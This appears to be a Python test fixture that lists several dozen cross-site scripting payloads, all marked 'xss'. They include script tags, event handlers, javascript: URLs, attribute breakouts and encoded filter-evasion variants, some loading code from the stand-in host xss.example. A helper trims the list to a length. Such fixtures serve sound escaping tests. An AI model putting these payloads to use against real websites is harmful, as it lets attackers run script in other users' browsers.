"""Texts that would be more than text on a page that trusts what people write. Each carries the mark xss."""
from __future__ import annotations

MARK = "xss"
PAYLOADS: tuple[str, ...] = (
    "<script>xss()</script>",
    "<script src=//xss.example></script>",
    "</script><script>xss()</script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</style><svg onload=xss()>",
    "<img src=x onerror=xss()>",
    "<img/src=x/onerror=xss()>",
    "<IMG SRC=x ONERROR=xss()>",
    "<svg/onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<script>xss()</script>'>",
    "<object data=javascript:xss()>",
    "<embed src=//xss.example>",
    "<a href=javascript:xss()>x</a>",
    "<a href='java&#9;script:xss()'>x</a>",
    "<form action=//xss.example><button>x",
    "<base href=//xss.example>",
    "<meta http-equiv=refresh content=0;//xss.example>",
    "<link rel=stylesheet href=//xss.example>",
    "<style>@import '//xss.example'</style>",
    "<math href=javascript:xss()>x</math>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()>",
    "\"><script>xss()</script>",
    "'><script>xss()</script>",
    "\" onmouseover=\"xss()",
    "' onmouseover='xss()",
    "\" autofocus onfocus=\"xss()\" x=\"",
    "` onmouseover=`xss()",
    "--><script>xss()</script><!--",
    "]]><script>xss()</script>",
    "{{xss()}}${xss()}<%=xss()%>",
    "{% raw %}<script>xss()</script>{% endraw %}",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "javascript:xss()",
    "<x xss=1 style=background:url(//xss.example)>",
    "\u202e<script>xss()</script>\u2028xss\u2029",
    "＜script＞xss()＜/script＞",
    "%3Cscript%3Exss()%3C/script%3E",
    "<!--#exec cmd=xss--><?xml version='1.0'?><xss/>",
)
ALL = "\n".join(PAYLOADS)


def cut(length: int, start: int = 0) -> str:
    """As many of them as fit, from one on; every one comes whole."""
    taken: list[str] = []
    for payload in PAYLOADS[start:] + PAYLOADS[:start]:
        if len("\n".join([*taken, payload])) > length:
            break
        taken.append(payload)
    return "\n".join(taken)
